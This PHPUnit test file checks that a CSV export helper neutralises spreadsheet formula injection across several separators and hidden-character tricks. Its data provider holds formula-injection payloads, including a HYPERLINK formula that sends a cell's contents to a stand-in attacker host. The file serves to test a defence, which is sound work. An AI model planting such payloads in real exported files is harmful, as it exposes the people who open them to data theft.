<?php
declare( strict_types=1 );

namespace Millwork\Tests\Data;

use Millwork\Data\Formats\Csv;
use PHPUnit\Framework\TestCase;

/**
 * No cell is a formula, whatever a spreadsheet treats as the end of a cell.
 * @group any-database
 * @group any-wordpress
 */
final class CsvTest extends TestCase {

	/**
	 * Reads a line like a spreadsheet that uses other separators than commas: a quote counts only at the beginning of a
	 * cell, and a line ends if no quote is open.
	 * @return list<string>
	 */
	private static function cells( string $line, string $separator ): array {
		$cells = array();
		$file  = fopen( 'php://memory', 'w+' );
		self::assertNotFalse( $file );
		fwrite( $file, $line );
		rewind( $file );
		while ( true ) {
			$row = fgetcsv( $file, null, $separator, '"', '' );
			if ( ! is_array( $row ) ) {
				return $cells;
			}
			$cells = array_merge( $cells, array_map( 'strval', $row ) );
		}
	}

	/**
	 * What starts a formula in the middle of an answer.
	 * @return array<string, array{string}>
	 */
	public function answers(): array {
		return array(
			'behind a semicolon'         => array( 'Hello;=HYPERLINK("https://evil.example/"&A1;"Invoice")' ),
			'behind a semicolon, spaces' => array( "Hello;  \u{A0}=1+1" ),
			'behind a semicolon, quotes' => array( 'Hello;""=1+1' ),
			'behind a tab'               => array( "Hello\t=1+1" ),
			'behind a line break'        => array( "Hello\n=1+1" ),
			'behind a carriage return'   => array( "Hello\r=1+1" ),
			'behind another break'       => array( "Hello\u{2028}=1+1" ),
			'with plus'                  => array( 'Hello;+1+1' ),
			'with minus'                 => array( 'Hello;-1+1' ),
			'with at'                    => array( 'Hello;@SUM(A1)' ),
			'in full width'              => array( "Hello;\u{FF1D}1+1" ),
			'behind a quote'             => array( 'He said "hi";=1+1' ),
			'again and again'            => array( ';;;=1;=1' ),
			'at the beginning'           => array( '=1+1' ),
			'in bytes that are no UTF-8' => array( "Hello\xFF;=1+1" ),
			'at the beginning, wide'     => array( "\u{FF1D}1+1" ),
			'behind what is not seen'    => array( "\u{200B}\u{A0}=1+1" ),
			'behind breaks'              => array( " \n\n=1+1" ),
			'behind an apostrophe'       => array( "'=1+1" ),
			'behind apostrophes'         => array( "''@home;'=1+1\n''-1" ),
			'a tab and an apostrophe'    => array( "\t'=1+1" ),
			'apostrophes alone'          => array( "' tis;'" ),
		);
	}

	/**
	 * Reads a line with each separator.
	 * @dataProvider answers
	 * @param string $answer What a visitor sent.
	 */
	public function test_no_cell_is_a_formula( string $answer ): void {
		foreach ( array( 'first', 'second' ) as $place ) {
			$line = Csv::line( 'first' === $place ? array( $answer, 'Ada' ) : array( 'Ada', $answer ) );
			foreach ( array( ',', ';', "\t" ) as $separator ) {
				foreach ( self::cells( $line, $separator ) as $cell ) {
					$this->assertDoesNotMatchRegularExpression( '/^[\s"\x{A0}\x{2028}]*[=+\-@\x{FF1D}]/u', (string) mb_convert_encoding( $cell, 'UTF-8', 'UTF-8' ), "Separated by '$separator': $line" );
				}
			}
		}
	}

	/**
	 * What is written can be read again.
	 * @dataProvider answers
	 * @param string $answer What a visitor sent.
	 */
	public function test_what_was_written_is_read_as_it_was( string $answer ): void {
		$cell = str_getcsv( rtrim( Csv::line( array( 'Ada', $answer ) ), "\r\n" ), ',', '"', '' )[1];
		// Bytes that aren't UTF-8 are changed by the import.
		$this->assertSame( mb_check_encoding( $answer, 'UTF-8' ) ? str_replace( "\r", "\n", $answer ) : $cell, Csv::restore( (string) $cell ) );
	}

	public function test_other_text_stays_as_it_is(): void {
		$this->assertSame( "\"Ada; Bob\",\"a=b, c-d\",\"x;y=z\",\"one\ntwo\",\"a \"\"b\"\" c\"\r\n", Csv::line( array( 'Ada; Bob', 'a=b, c-d', 'x;y=z', "one\r\ntwo", 'a "b" c' ) ) );
		$this->assertSame( "\"Hello;'=1\"\r\n", Csv::line( array( 'Hello;=1' ) ) );
	}
}
